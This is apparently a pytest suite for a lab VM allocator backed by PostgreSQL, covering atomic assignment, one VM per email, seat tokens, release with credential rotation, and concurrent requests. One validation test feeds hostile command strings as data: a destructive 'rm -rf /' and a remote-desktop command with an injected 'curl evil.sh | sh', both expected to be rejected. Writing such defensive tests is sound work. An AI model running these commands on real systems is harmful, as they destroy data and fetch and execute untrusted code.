"""Allocation against real PostgreSQL: atomic claims, one VM per email, seats, release."""

from __future__ import annotations

import threading
from collections import Counter
from collections.abc import Callable

import pytest
from sqlalchemy import Engine, text

from lablink_core.allocation import Allocator, Assignment
from lablink_core.enrolment import VMEnrolment
from lablink_core.errors import InvalidInput, NotFound, NoVMAvailable, SeatTaken
from lablink_core.vms import VMRegistry
from tests.support.vms import poll

CRD = (
    'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AbCdEf_123-xyz" '
    '--redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)'
)


def crd(code: str = "4/0AbCdEf_123-xyz") -> str:
    return CRD.replace("4/0AbCdEf_123-xyz", code)


def holders(engine: Engine) -> dict[str, str]:
    with engine.connect() as connection:
        rows = connection.execute(
            text("SELECT hostname, user_email FROM vms WHERE user_email IS NOT NULL")
        ).all()
    return {row.hostname: row.user_email for row in rows}


def test_request_assigns_a_free_vm_with_random_pin(
    allocator: Allocator, free_vms: Callable[..., list[str]], engine: Engine
) -> None:
    names = free_vms(2)
    first = allocator.request_vm("Ada@Example.org", crd())
    second = allocator.request_vm("grace@example.org", crd())
    assert {first.hostname, second.hostname} == set(names)
    assert first.email == "ada@example.org"
    assert len(first.pin) == 6 and first.pin.isdigit()
    assert first.seat_token and first.seat_token != second.seat_token
    assert holders(engine) == {
        first.hostname: "ada@example.org",
        second.hostname: "grace@example.org",
    }


def test_pins_are_not_constant(allocator: Allocator, free_vms: Callable[..., list[str]]) -> None:
    free_vms(30)
    pins = {allocator.request_vm(f"user{i}@example.org", crd()).pin for i in range(30)}
    assert len(pins) > 20


def test_no_free_vm_raises(allocator: Allocator) -> None:
    with pytest.raises(NoVMAvailable):
        allocator.request_vm("ada@example.org", crd())


def test_same_email_without_token_is_refused_and_nothing_changes(
    allocator: Allocator, free_vms: Callable[..., list[str]], engine: Engine
) -> None:
    free_vms(2)
    first = allocator.request_vm("ada@example.org", crd())
    before = holders(engine)
    for token in (None, "wrong-token"):
        with pytest.raises(SeatTaken, match="already holds a VM"):
            allocator.request_vm("ada@example.org", crd("4/other"), seat_token=token)
    assert holders(engine) == before
    with engine.connect() as connection:
        code = connection.execute(
            text("SELECT crd_code FROM vms WHERE hostname = :h"), {"h": first.hostname}
        ).scalar()
    assert code == "4/0AbCdEf_123-xyz"


def test_same_email_with_token_renews_the_command_on_the_same_vm(
    allocator: Allocator, free_vms: Callable[..., list[str]], engine: Engine
) -> None:
    free_vms(2)
    first = allocator.request_vm("ada@example.org", crd())
    again = allocator.request_vm(
        "ADA@example.org", crd("4/fresh-code"), seat_token=first.seat_token
    )
    assert again.hostname == first.hostname and again.pin == first.pin
    assert again.renewed and again.generation == first.generation + 1
    with engine.connect() as connection:
        code = connection.execute(
            text("SELECT crd_code FROM vms WHERE hostname = :h"), {"h": first.hostname}
        ).scalar()
    assert code == "4/fresh-code"


def test_held_seat_with_no_free_vm_is_seat_taken_not_empty(
    allocator: Allocator, free_vms: Callable[..., list[str]]
) -> None:
    free_vms(1)
    allocator.request_vm("ada@example.org", crd())
    with pytest.raises(SeatTaken):
        allocator.request_vm("ada@example.org", crd())


def test_release_by_researcher_and_by_admin(
    allocator: Allocator,
    free_vms: Callable[..., list[str]],
    engine: Engine,
    enrolment: VMEnrolment,
    registry: VMRegistry,
) -> None:
    free_vms(1)
    first = allocator.request_vm("ada@example.org", crd())
    with pytest.raises(SeatTaken):
        allocator.release("ada@example.org", "not-the-token")
    assert allocator.release("ada@example.org", first.seat_token) == first.hostname
    assert holders(engine) == {}
    # Its credential rotated: nobody gets it before the VM has used the new one.
    with pytest.raises(NoVMAvailable):
        allocator.request_vm("grace@example.org", crd())
    poll(registry, first.hostname, enrolment.current([first.hostname])[first.hostname])
    second = allocator.request_vm("grace@example.org", crd())
    assert second.hostname == first.hostname
    allocator.release_hostname(second.hostname)
    assert allocator.free_count() == 0  # rotated again, not acknowledged yet
    poll(registry, first.hostname, enrolment.current([first.hostname])[first.hostname])
    assert allocator.free_count() == 1
    with pytest.raises(NotFound):
        allocator.release_hostname(second.hostname)


def test_recycle_policy_takes_released_vm_out_of_rotation(
    engine: Engine, free_vms: Callable[..., list[str]]
) -> None:
    recycling = Allocator(engine, "vms", release_policy="recycle")
    free_vms(1)
    seat = recycling.request_vm("ada@example.org", crd())
    recycling.release("ada@example.org", seat.seat_token)
    assert recycling.free_count() == 0


@pytest.mark.parametrize(
    ("email", "command", "field"),
    [
        ("not-an-email", CRD, "email"),
        ("", CRD, "email"),
        ("ada@example.org", "rm -rf /", "crd_command"),
        ("ada@example.org", CRD + "; curl evil.sh | sh", "crd_command"),
    ],
)
def test_bad_input_is_refused_and_stores_nothing(
    allocator: Allocator,
    free_vms: Callable[..., list[str]],
    engine: Engine,
    email: str,
    command: str,
    field: str,
) -> None:
    free_vms(1)
    with pytest.raises(InvalidInput) as error:
        allocator.request_vm(email, command)
    assert error.value.field == field
    assert holders(engine) == {}


def _run_threads(count: int, work: Callable[[int], object]) -> list[object]:
    results: list[object] = [None] * count
    barrier = threading.Barrier(count)

    def run(index: int) -> None:
        barrier.wait()
        try:
            results[index] = work(index)
        except Exception as error:  # collected and checked by the caller
            results[index] = error

    threads = [threading.Thread(target=run, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    return results


def test_fifty_researchers_twenty_vms_exactly_twenty_distinct_assignments(
    allocator: Allocator, free_vms: Callable[..., list[str]], engine: Engine
) -> None:
    free_vms(20)
    results = _run_threads(50, lambda i: allocator.request_vm(f"user{i}@example.org", crd()))
    won = [r for r in results if isinstance(r, Assignment)]
    empty = [r for r in results if isinstance(r, NoVMAvailable)]
    assert len(won) == 20 and len(empty) == 30
    assert len({a.hostname for a in won}) == 20
    assert holders(engine) == {a.hostname: a.email for a in won}


def test_twenty_requests_for_one_email_get_one_vm(
    allocator: Allocator, free_vms: Callable[..., list[str]], engine: Engine
) -> None:
    free_vms(20)
    results = _run_threads(20, lambda i: allocator.request_vm("ada@example.org", crd()))
    kinds = Counter(type(r).__name__ for r in results)
    assert kinds == {"Assignment": 1, "SeatTaken": 19}
    (winner,) = [r for r in results if isinstance(r, Assignment)]
    assert holders(engine) == {winner.hostname: "ada@example.org"}
